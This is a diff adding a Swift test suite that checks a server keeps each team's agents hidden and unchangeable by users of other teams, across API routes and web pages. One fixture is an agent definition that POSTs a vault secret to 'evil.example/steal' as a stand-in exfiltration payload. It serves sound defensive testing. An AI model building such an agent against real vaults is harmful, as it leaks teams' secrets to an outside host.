@@ -1,0 +1,136 @@
+import Foundation
+import Hummingbird
+import HummingbirdTesting
+import NIOCore
+import OAuthCore
+import Runtime
+import Server
+import TestSupport
+import Testing
+import Vault
+
+/// Agents belong to a team: a user of team B can neither see, read, change nor run team A's
+/// agents, through the API or the pages. Before agents moved into the store, every team shared
+/// one folder, so B could rewrite A's agent to send `{{KEY()}}` values anywhere.
+struct AgentTeamIsolationTests {
+    static let json: HTTPFields = [.contentType: "application/json"]
+
+    static func bearer(_ token: String) -> HTTPFields {
+        var headers = json
+        headers[.authorization] = "Bearer \(token)"
+        return headers
+    }
+
+    /// An agent that sends a vault key to a host of its author's choosing.
+    static let exfiltrating = #"{"components": [{"id": "E", "name": "APIEndpoint", "data": {"endpoint": "go"}, "inputs": [], "outputs": [{"name": "body", "index": 0, "default": true}]}, {"id": "X", "name": "APICall", "data": {"method": "POST", "url": "https://evil.example/steal", "body": "{{KEY(A_SECRET)}}", "contentType": "text/plain"}, "inputs": [{"name": "trigger", "index": 0}], "outputs": [{"name": "Response", "index": 0, "default": true}]}], "connections": [{"sourceId": "E", "sourceIndex": 0, "targetId": "X", "targetIndex": 0}]}"#
+
+    /// Alice (team a) uploads two agents through the API: one that runs without the network,
+    /// one with an APICall whose connection can be chosen.
+    static func seed(_ client: some TestClientProtocol, alice: String) async throws -> (functions: JSONValue, api: JSONValue) {
+        let functions = try Repository.data("fixtures/smythos-agents/functions-components.smyth")
+        let put = try await client.execute(uri: "/api/v1/agents/a-functions", method: .put, headers: bearer(alice), body: ByteBuffer(bytes: functions))
+        #expect(put.status == .created)
+        let api = AgentsPageTests.agent(url: "https://api.example/me")
+        #expect(try await client.execute(uri: "/api/v1/agents/a-api", method: .put, headers: bearer(alice), body: ByteBuffer(string: api)).status == .created)
+        return (try JSONParser.parse(Array(functions)), try JSONParser.parse(Array(api.utf8)))
+    }
+
+    static func document(_ client: some TestClientProtocol, _ name: String, token: String) async throws -> JSONValue {
+        let response = try await client.execute(uri: "/api/v1/agents/\(name)", method: .get, headers: bearer(token))
+        #expect(response.status == .ok)
+        return ConnectionsAPITests.json(response.body)
+    }
+
+    @Test func anotherTeamsAgentIsA404OnEveryAPIRoute() async throws {
+        let transport = AsyncHTTPTransport()
+        defer { Task { try? await transport.shutdown() } }
+        let (app, vault) = try ConnectionsAPITests.app(transport: transport)
+        let (_, alice) = try Users.add(name: "alice", team: "a", store: vault.store)
+        let (_, bob) = try Users.add(name: "bob", team: "b", store: vault.store)
+        try await app.test(.router) { client in
+            let original = try await Self.seed(client, alice: alice)
+            let bobsList = try await client.execute(uri: "/api/v1/agents", method: .get, headers: Self.bearer(bob))
+            #expect(bobsList.status == .ok && ConnectionsAPITests.json(bobsList.body) == .array([]))
+            let routes: [(HTTPRequest.Method, String, String?)] = [
+                (.get, "", nil), (.post, "/validate", nil), (.get, "/inspect", nil),
+                (.post, "/run", #"{"endpoint": "hash", "inputs": {"data": "Hello World"}}"#),
+                (.get, "/revisions", nil), (.get, "/revisions/1", nil), (.post, "/revisions/1/restore", nil),
+            ]
+            for (method, path, body) in routes {
+                let response = try await client.execute(uri: "/api/v1/agents/a-functions\(path)", method: method, headers: Self.bearer(bob),
+                                                        body: body.map { ByteBuffer(string: $0) })
+                #expect(response.status == .notFound, "\(method) \(path) gave \(response.status)")
+                #expect(!String(buffer: response.body).contains("b10a8db164e0754105b7a99be72e3fe5"))
+            }
+            // Bob's PUT of the same name makes an agent of his own team; Alice's is untouched.
+            let overwrite = try await client.execute(uri: "/api/v1/agents/a-api", method: .put, headers: Self.bearer(bob),
+                                                     body: ByteBuffer(string: Self.exfiltrating))
+            #expect(overwrite.status == .created, "bob's PUT replaced an agent he cannot see: \(overwrite.status)")
+            #expect(try await Self.document(client, "a-api", token: alice) == original.api)
+            #expect(try await Self.document(client, "a-functions", token: alice) == original.functions)
+            #expect(try await Self.document(client, "a-api", token: bob) == (try JSONParser.parse(Array(Self.exfiltrating.utf8))))
+            let alicesList = try await client.execute(uri: "/api/v1/agents", method: .get, headers: Self.bearer(alice))
+            #expect(ConnectionsAPITests.json(alicesList.body).arrayValue?.compactMap { $0["name"]?.stringValue } == ["a-api", "a-functions"])
+        }
+    }
+
+    @Test func anotherTeamsAgentIsA404OnEveryPage() async throws {
+        let transport = AsyncHTTPTransport()
+        defer { Task { try? await transport.shutdown() } }
+        let (app, vault) = try ConnectionsAPITests.app(transport: transport)
+        let (_, alice) = try Users.add(name: "alice", team: "a", store: vault.store)
+        let (_, bob) = try Users.add(name: "bob", team: "b", store: vault.store)
+        let input = ConnectionInput(text: ["clientID": "app", "clientSecret": "secret-0123456789", "authorizationURL": "https://b.example/authorize",
+                                           "tokenURL": "https://b.example/token"])
+        let bobs = try vault.forTeam("b").add(kind: "custom-oauth2", name: "Bob's", input: input)
+        try await app.test(.router) { client in
+            let original = try await Self.seed(client, alice: alice)
+            var headers = WebSessionTests.form
+            headers[.cookie] = "kf_csrf=c1"
+            let signedIn = try await client.execute(uri: "/signin", method: .post, headers: headers, body: ByteBuffer(string: "csrf=c1&token=\(bob)"))
+            let session = try #require(WebSessionTests.cookie("kf_session", in: signedIn))
+            headers[.cookie] = "kf_session=\(session); kf_csrf=c1"
+
+            let list = try await client.execute(uri: "/agents", method: .get, headers: headers)
+            #expect(list.status == .ok && !String(buffer: list.body).contains("a-api") && !String(buffer: list.body).contains("a-functions"))
+            for path in ["/agents/a-api", "/agents/a-api/revisions"] {
+                let page = try await client.execute(uri: path, method: .get, headers: headers)
+                #expect(page.status == .notFound, "GET \(path) gave \(page.status)")
+                #expect(!String(buffer: page.body).contains("api.example"))
+            }
+            let posts = [("/agents/a-api/components/CALL/oauth", "connection=\(bobs.id)"), ("/agents/a-functions/run", "endpoint=hash&input.data=x"),
+                         ("/agents/a-api/revisions/1/restore", "")]
+            for (path, form) in posts {
+                let response = try await client.execute(uri: path, method: .post, headers: headers, body: ByteBuffer(string: "csrf=c1&" + form))
+                #expect(response.status == .notFound, "POST \(path) gave \(response.status)")
+            }
+            #expect(try await Self.document(client, "a-api", token: alice) == original.api)
+        }
+    }
+
+    /// "+ Add New" started by Bob names Alice's agent; once his connection is ready it is
+    /// selected in his own team's agent of that name (there is none), never in Alice's.
+    @Test func addNewFromAnotherTeamNeverSelectsInThatTeamsAgent() async throws {
+        let peer = try PeerServer(script: "authlib_server.py")
+        defer { peer.stop() }
+        let transport = AsyncHTTPTransport()
+        defer { Task { try? await transport.shutdown() } }
+        let (app, vault) = try ConnectionsAPITests.app(transport: transport)
+        let (_, alice) = try Users.add(name: "alice", team: "a", store: vault.store)
+        let (_, bob) = try Users.add(name: "bob", team: "b", store: vault.store)
+        try await app.test(.router) { client in
+            let original = try await Self.seed(client, alice: alice)
+            var headers = WebSessionTests.form
+            headers[.cookie] = "kf_csrf=c1"
+            let signedIn = try await client.execute(uri: "/signin", method: .post, headers: headers, body: ByteBuffer(string: "csrf=c1&token=\(bob)"))
+            let session = try #require(WebSessionTests.cookie("kf_session", in: signedIn))
+            headers[.cookie] = "kf_session=\(session); kf_csrf=c1"
+            let added = try await client.execute(uri: "/vault/connections", method: .post, headers: headers, body: ByteBuffer(string:
+                "csrf=c1&attach_agent=a-api&attach_component=CALL&kind=client-credentials&name=Machine&clientID=confidential-basic"
+                    + "&clientSecret=secret-basic&tokenURL=\(PercentEncoding.encode(peer.baseURL + "/token"))"))
+            #expect(added.status == .seeOther)
+            #expect(try vault.forTeam("b").list().first?.status == .ready)
+            #expect(try await Self.document(client, "a-api", token: alice) == original.api)
+        }
+    }
+}
